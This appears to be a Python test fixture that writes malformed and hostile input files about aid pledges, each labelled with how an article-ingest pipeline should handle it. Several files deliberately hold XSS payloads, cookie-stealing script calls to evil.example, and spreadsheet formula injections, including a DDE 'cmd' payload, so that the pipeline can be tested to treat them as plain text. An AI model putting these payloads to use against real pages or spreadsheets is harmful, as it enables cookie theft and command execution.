"""Hostile input files, written at test time (nothing downloaded), with each file's expected outcome.

`make_hostile_corpus(root)` writes the files under `root` and returns a dict from each
file's path relative to `root` (POSIX style) to what should become of it:

- "ok": every item in the file reads as an article and should load;
- "partial": some items (lines or feed entries) read, the others are rejected one by one,
  each naming its line or entry;
- "rejected": nothing in the file can be read; it is rejected with a reason;
- "duplicate": reads as an article, but its id is already used by another file of the
  corpus with different text (dup_id_a.json / dup_id_b.json): an ingest must keep one
  and say so, never crash or mix the two;
- "skipped": not picked up when the folder is read (a hidden file, a file of another type).

The good items are hostile too: absurd numbers, impossible dates, titles and text carrying
`<script>` tags, HTML event handlers and spreadsheet formulas. They must load as plain text.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import NamedTuple

OK, PARTIAL, REJECTED, DUPLICATE, SKIPPED = "ok", "partial", "rejected", "duplicate", "skipped"

HUGE_BYTES = 50_000_000


class HostileCorpus(NamedTuple):
    """Where the corpus was written and the expected outcome of each file."""

    root: Path
    expected: dict[str, str]


def _jsonl(*records: dict[str, object]) -> str:
    return "".join(json.dumps(record) + "\n" for record in records)


_RSS_NO_ENTRIES = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel>
<title>Empty aid feed</title><link>https://feeds.example.org/empty</link>
<description>A channel that has never published an item.</description>
</channel></rss>
"""

_RSS_ONE_EMPTY_ENTRY = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel>
<title>Mixed aid feed</title><link>https://feeds.example.org/mixed</link>
<item>
  <title>Norway gives NOK 50 million to Sudan</title>
  <link>https://feeds.example.org/mixed/norway-sudan</link>
  <guid>hostile-feed-good</guid>
  <pubDate>Mon, 31 Feb 2020 10:00:00 GMT</pubDate>
  <description><![CDATA[<p>Norway said it would give NOK 50 million to Sudan.</p>
  <script>alert("feed")</script><p onclick="steal()">About 9.6 million people need aid.</p>]]></description>
</item>
<item>
  <title>An entry with no text at all</title>
  <link>https://feeds.example.org/mixed/empty</link>
  <guid>hostile-feed-empty</guid>
</item>
</channel></rss>
"""

_ATOM_HOSTILE = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
<title>Hostile atom</title><id>urn:hostile:atom</id><updated>2021-05-06T07:08:09Z</updated>
<entry>
  <title type="html">&lt;img src=x onerror=alert(1)&gt; Canada pledges $1e400</title>
  <id>urn:hostile:atom:1</id>
  <link href="https://feeds.example.org/atom/1"/>
  <updated>2021-05-06T07:08:09+02:00</updated>
  <content type="html">&lt;p&gt;Canada pledged 999 quintillion tons of wheat to Chad.&lt;/p&gt;
  &lt;script&gt;document.location='https://evil.example'&lt;/script&gt;</content>
</entry>
</feed>
"""

_HTML_NO_BODY = """<!DOCTYPE html>
<html><head><title>Nothing to read here</title>
<meta property="article:published_time" content="2022-01-01T00:00:00Z"></head>
<body></body></html>
"""

_HTML_SCRIPT_ONLY = """<!DOCTYPE html>
<html><head><title>Only a script</title></head>
<body><script>for (;;) { document.write("<p>aid</p>"); }</script><style>p { color: red }</style></body></html>
"""

_HTML_HOSTILE_GOOD = """<!DOCTYPE html>
<html><head><title>Germany pledges EUR -5 million to Haiti</title>
<meta name="date" content="2020-02-31">
</head><body>
<article><h1>Germany pledges EUR -5 million to Haiti</h1>
<p>Germany said it would provide -5 million euros to Haiti, a figure officials later corrected.</p>
<p>The statement, dated 31 February 2020, said 4.9 million people need food aid.</p>
<script>fetch("https://evil.example/?c=" + document.cookie)</script>
<p>A spokesperson wrote =HYPERLINK("https://evil.example","details") in the release.</p>
</article></body></html>
"""


def make_hostile_corpus(root: Path) -> dict[str, str]:
    """Write the hostile corpus under `root` and return {relative path: expected outcome}."""
    expected: dict[str, str] = {}

    def write(name: str, content: str | bytes, outcome: str) -> None:
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, str):
            path.write_bytes(content.encode("utf-8"))
        else:
            path.write_bytes(content)
        expected[name] = outcome

    # files nothing can be read from
    write("empty.txt", b"", REJECTED)
    write("whitespace_only.md", b"  \n\t\r\n   \n", REJECTED)
    write("binary.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8, REJECTED)
    write("binary_page.html", b"\x1f\x8b\x08\x00" + bytes(range(256)) * 4, REJECTED)
    write(
        "invalid_utf8.txt",
        "Aide alimentaire\nLe Programme alimentaire mondial a livré 500 tonnes de blé à Haïti.\n".encode(
            "cp1252"
        ),
        REJECTED,
    )
    write("utf16.txt", "Aid title\nWFP delivered 200 tonnes of rice.\n".encode("utf-16"), REJECTED)
    write("title_only.txt", "Japan pledges $10 million to Somalia\n", REJECTED)
    line = "Aid agencies said 2 million people need help after the floods, and donors pledged more.\n"
    write("huge_50mb.txt", "A very long article\n" + line * (HUGE_BYTES // len(line) + 1), REJECTED)
    write("not_object.json", json.dumps("just a string, not a record"), REJECTED)
    write("list_of_numbers.json", json.dumps([1, 2, 3]), REJECTED)
    write("malformed.json", '{"id": "hostile-malformed", "text": "cut off', REJECTED)
    write("deeply_nested.json", "[" * 100_000 + "]" * 100_000, REJECTED)
    write("no_text.json", json.dumps({"id": "hostile-no-text", "title": "A record without text"}), REJECTED)
    write("surrogate.json", '{"id": "hostile-surrogate", "text": "Aid \\ud800 arrives."}', REJECTED)
    write("no_body.html", _HTML_NO_BODY, REJECTED)
    write("script_only.html", _HTML_SCRIPT_ONLY, REJECTED)
    write("no_entries.rss", _RSS_NO_ENTRIES, REJECTED)
    write("not_a_feed.xml", "This is plain text with a .xml name, not a feed.\n", REJECTED)

    # files with good and bad items
    write(
        "one_bad_line.jsonl",
        _jsonl(
            {
                "id": "hostile-jsonl-1",
                "title": "UK gives £5m",
                "date": "2019-05-01",
                "text": "The UK gave £5m.",
            },
            {"id": "hostile-jsonl-2", "title": None, "date": None, "text": "WFP fed 1 million people."},
        )
        + '{"id": "hostile-jsonl-bad", "text": "this line is cut off\n'
        + "\n"
        + _jsonl(
            {"id": "hostile-jsonl-4", "date": "2019-05-04", "text": "Chad received 500 tonnes of sorghum."}
        ),
        PARTIAL,
    )
    write("feed_one_empty_entry.rss", _RSS_ONE_EMPTY_ENTRY, PARTIAL)

    # the same id with different text, in two files
    write(
        "dup_id_a.json",
        json.dumps({"id": "hostile-dup", "text": "Sweden pledged SEK 10 million to Mali."}),
        OK,
    )
    write(
        "dup_id_b.json",
        json.dumps({"id": "hostile-dup", "text": "Sweden pledged SEK 99 million to Niger."}),
        DUPLICATE,
    )

    # hostile but good: these must load as plain text
    write(
        "absurd_numbers.txt",
        "Donors pledge $1e400 to nowhere\n"
        "A donor pledged $1e400 to the fund, and 999 quintillion tons of grain were promised.\n"
        "The budget line was -5 million dollars; 1e308 people were said to be at risk, "
        "and 0.000000001 tonnes arrived.\n",
        OK,
    )
    write(
        "impossible_date.md",
        "---\ntitle: Aid on a day that never was\ndate: 31 February 2020\nsource: Hostile Wire\n---\n"
        "On 31 February 2020 Japan pledged $10 million to Somalia.\n",
        OK,
    )
    write(
        "impossible_date.json",
        json.dumps(
            {"id": "hostile-date", "date": "2021-02-31", "text": "Italy gave EUR 3 million on 2021-02-31."}
        ),
        OK,
    )
    write(
        "script_title.txt",
        '<script>alert("title")</script> Aid to Yemen\n'
        "<script>document.location='https://evil.example/?c='+document.cookie</script>\n"
        "Saudi Arabia pledged $500 million to Yemen.\n",
        OK,
    )
    write(
        "formulas.jsonl",
        _jsonl(
            {
                "id": "hostile-formula-1",
                "title": '=HYPERLINK("https://evil.example","Click for aid")',
                "text": '=HYPERLINK("https://evil.example","x") France gave EUR 2 million to Niger.',
            },
            {
                "id": "hostile-formula-2",
                "title": "+1",
                "text": "+1 (555) 0100: call WFP, which delivered 40 tons.",
            },
            {
                "id": "hostile-formula-3",
                "title": "@SUM(A1:A10)",
                "text": "@SUM(A1:A10) -2+3 cmd|' /C calc'!A0",
            },
        ),
        OK,
    )
    write(
        "img_onerror.md",
        "---\ntitle: '<img src=x onerror=alert(1)>'\ndate: 2023-06-01\n---\n"
        "The title of this article tries to run script in a dashboard.\n",
        OK,
    )
    write("hostile_page.html", _HTML_HOSTILE_GOOD, OK)
    write("hostile.atom", _ATOM_HOSTILE, OK)
    write(
        "crlf_bom.txt",
        "\ufeffWindows line endings\r\nNorway gave NOK 7 million.\r\nIt arrived in March.\r\n".encode(
            "utf-8"
        ),
        OK,
    )
    write("nested/deeper/nested_ok.md", "# A nested article\n\nIreland gave EUR 1 million to Malawi.\n", OK)

    # not read at all when the folder is ingested
    write(".hidden.txt", "Hidden title\nA hidden file is not an article.\n", SKIPPED)
    write(".hidden_folder/inside.txt", "Hidden title\nInside a hidden folder.\n", SKIPPED)
    write("notes.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", SKIPPED)
    return expected
